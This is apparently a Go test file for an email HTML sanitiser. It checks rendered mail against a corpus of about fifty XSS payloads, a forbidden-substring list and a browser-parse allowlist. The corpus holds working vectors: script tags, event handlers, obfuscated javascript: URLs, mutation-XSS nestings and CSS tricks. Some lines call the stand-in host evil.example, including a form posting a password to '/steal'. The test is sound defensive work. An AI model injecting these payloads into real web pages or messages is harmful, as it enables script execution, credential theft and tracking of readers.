package mailview

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// xssCorpus is HTML that tries to run script, submit, embed, redirect or load something in the reader.
var xssCorpus = map[string]string{
	"script":                `<p>a</p><script>alert(1)</script>`,
	"script upper case":     `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	"script split":          `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"script in comment":     `<!--<script>alert(1)</script>-->`,
	"unclosed script":       `<script>alert(1)`,
	"onerror":               `<img src=x onerror=alert(1)>`,
	"onload body":           `<body onload="alert(1)">x</body>`,
	"onmouseover":           `<div onmouseover='alert(1)'>x</div>`,
	"event without quotes":  `<a href="https://a.example" onclick=alert(1)>x</a>`,
	"event after slash":     `<img/src="https://a.example/a.png"/onerror=alert(1)>`,
	"javascript href":       `<a href="javascript:alert(1)">x</a>`,
	"javascript entities":   `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	"javascript tab":        "<a href=\"jav\tascript:alert(1)\">x</a>",
	"javascript upper":      `<a href="JaVaScRiPt:alert(1)">x</a>`,
	"vbscript href":         `<a href="vbscript:msgbox(1)">x</a>`,
	"javascript img":        `<img src="javascript:alert(1)">`,
	"data html link":        `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	"data image":            `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	"svg onload":            `<svg onload=alert(1)><circle r=1 /></svg>`,
	"svg script":            `<svg><script>alert(1)</script></svg>`,
	"math":                  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	"iframe":                `<iframe src="https://evil.example"></iframe>`,
	"iframe srcdoc":         `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"object":                `<object data="https://evil.example/x.swf"></object>`,
	"embed":                 `<embed src="https://evil.example/x.swf">`,
	"form":                  `<form action="https://evil.example/steal"><input name=pw><button>OK</button></form>`,
	"formaction":            `<button formaction="javascript:alert(1)">x</button>`,
	"base":                  `<base href="https://evil.example/">`,
	"meta refresh":          `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	"link stylesheet":       `<link rel=stylesheet href="https://evil.example/x.css">`,
	"style element":         `<style>body{background:url(https://evil.example/t.gif)}</style>`,
	"style import":          `<style>@import 'https://evil.example/x.css';</style>`,
	"css expression":        `<div style="width: expression(alert(1))">x</div>`,
	"css url":               `<div style="background-image: url(https://evil.example/t.gif)">x</div>`,
	"css url escaped":       `<div style="background: u\72l(https://evil.example/t.gif)">x</div>`,
	"css javascript url":    `<p style="background:url('javascript:alert(1)')">x</p>`,
	"css behavior":          `<p style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</p>`,
	"css comment trick":     `<p style="width: expr/**/ession(alert(1))">x</p>`,
	"background attribute":  `<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>`,
	"srcset":                `<img srcset="https://evil.example/t.gif 1x">`,
	"video poster":          `<video poster="https://evil.example/t.gif"><source src="x"></video>`,
	"audio":                 `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
	"template":              `<template><script>alert(1)</script></template>`,
	"noscript":              `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	"textarea breakout":     `<textarea></textarea><script>alert(1)</script></textarea>`,
	"title breakout":        `<title></title><script>alert(1)</script>`,
	"xmp breakout":          `<xmp><img src=x onerror=alert(1)></xmp>`,
	"attribute breakout":    `<p title="x" "><script>alert(1)</script>">y</p>`,
	"namespace confusion":   `<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`,
	"remote image tracking": `<img src="https://tracker.example/open.gif">`,
	"protocol relative img": `<img src="//tracker.example/open.gif">`,
}

// forbidden are substrings no sanitised body may contain (compared in lower case).
var forbidden = []string{"<script", "javascript:", "vbscript:", "<svg", "<math", "<form", "<input", "<button",
	"<iframe", "<object", "<embed", "<base", "<meta", "<link", "<style", "<template", "<video", "<audio",
	"url(", "expression(", "behavior", "binding", "data:", "srcset", "srcdoc", "formaction", "evil.example",
	"tracker.example"}

// eventAttr finds an on*= attribute inside a tag (text is escaped, so a '<' always opens a tag).
var eventAttr = regexp.MustCompile(`(?i)<[^>]*[\s/"']on[a-z]+\s*=[^>]*>`)

// allowedOutput are the elements and attributes a sanitised body may hold at all.
var (
	allowedElements = strings.Fields(`html head body a abbr address b bdi bdo big blockquote br center cite code dd
		del dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd mark p pre q s samp small span
		strike strong sub sup tt u var wbr ol ul li table thead tbody tfoot tr td th caption col colgroup`)
	allowedAttrs = strings.Fields(`dir lang title align valign bgcolor color width height border cellpadding
		cellspacing colspan rowspan face size href src alt style rel target scope span`)
)

func htmlMessage(body string) []byte {
	return crlf("From: a@example.com\nSubject: x\nContent-Type: text/html; charset=utf-8\n" +
		"Content-Transfer-Encoding: base64\n\n" + b64Lines([]byte(body)))
}

func TestXSSCorpus(t *testing.T) {
	if len(xssCorpus) < 30 {
		t.Fatalf("corpus has %d cases", len(xssCorpus))
	}
	for name, payload := range xssCorpus {
		t.Run(name, func(t *testing.T) {
			v, err := Render(htmlMessage(payload), Options{PartURL: partURL})
			if err != nil {
				t.Fatal(err)
			}
			_, body, ok := strings.Cut(v.HTML, "<body>")
			if !ok {
				t.Fatalf("no body in %q", v.HTML)
			}
			lower := strings.ToLower(body)
			for _, f := range forbidden {
				if strings.Contains(lower, f) {
					t.Errorf("output holds %q: %s", f, body)
				}
			}
			if eventAttr.MatchString(body) {
				t.Errorf("output holds an event handler: %s", body)
			}
			checkTree(t, v.HTML)
		})
	}
}

// checkTree parses the document as a browser would and checks every element and attribute against what the
// policy allows: a string test could miss a vector spelled in a way the parser still understands.
func checkTree(t *testing.T, doc string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	var walk func(n *html.Node, inBody bool)
	walk = func(n *html.Node, inBody bool) {
		if n.Type == html.ElementNode {
			if n.Data == "body" {
				inBody = true
			}
			if inBody && !contains(allowedElements, n.Data) {
				t.Errorf("element <%s> in the output", n.Data)
			}
			for _, a := range n.Attr {
				if !inBody {
					continue
				}
				if !contains(allowedAttrs, a.Key) || a.Namespace != "" {
					t.Errorf("attribute %s on <%s> in the output", a.Key, n.Data)
				}
				if (a.Key == "href" || a.Key == "src") && !safeURL(a.Val) {
					t.Errorf("%s=%q on <%s>", a.Key, a.Val, n.Data)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, inBody)
		}
	}
	walk(root, false)
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func safeURL(u string) bool {
	u = strings.ToLower(strings.TrimSpace(u))
	for _, p := range []string{"https://", "http://", "mailto:", "tel:", "/mail/part/"} {
		if strings.HasPrefix(u, p) {
			return true
		}
	}
	return false
}

func TestSafeMarkupKept(t *testing.T) {
	in := `<table border="1" cellpadding="4"><tr><td bgcolor="#ffeeaa" align="center" style="color: #336699; ` +
		`font-family: Arial, 'Times New Roman'; padding: 4px">Ô</td></tr></table>` +
		`<a href="https://vinhyen.gov.vn/van-ban">Văn bản</a><ul><li><font face="Tahoma" color="red">Mục</font></li></ul>`
	v, err := Render(htmlMessage(in), Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`<table border="1" cellpadding="4">`, `bgcolor="#ffeeaa"`, `color: #336699`,
		`padding: 4px`, `font-family: Arial, &#39;Times New Roman&#39;`, `<font face="Tahoma" color="red">Mục</font>`,
		`href="https://vinhyen.gov.vn/van-ban"`, `rel="noreferrer noopener"`, `target="_blank"`} {
		if !strings.Contains(v.HTML, want) {
			t.Errorf("missing %s in %s", want, v.HTML)
		}
	}
	if v.RemoteImagesBlocked {
		t.Error("RemoteImagesBlocked without images")
	}
}

func TestRemoteImageReported(t *testing.T) {
	v, err := Render(htmlMessage(xssCorpus["remote image tracking"]), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !v.RemoteImagesBlocked {
		t.Error("remote image not reported as blocked")
	}
}
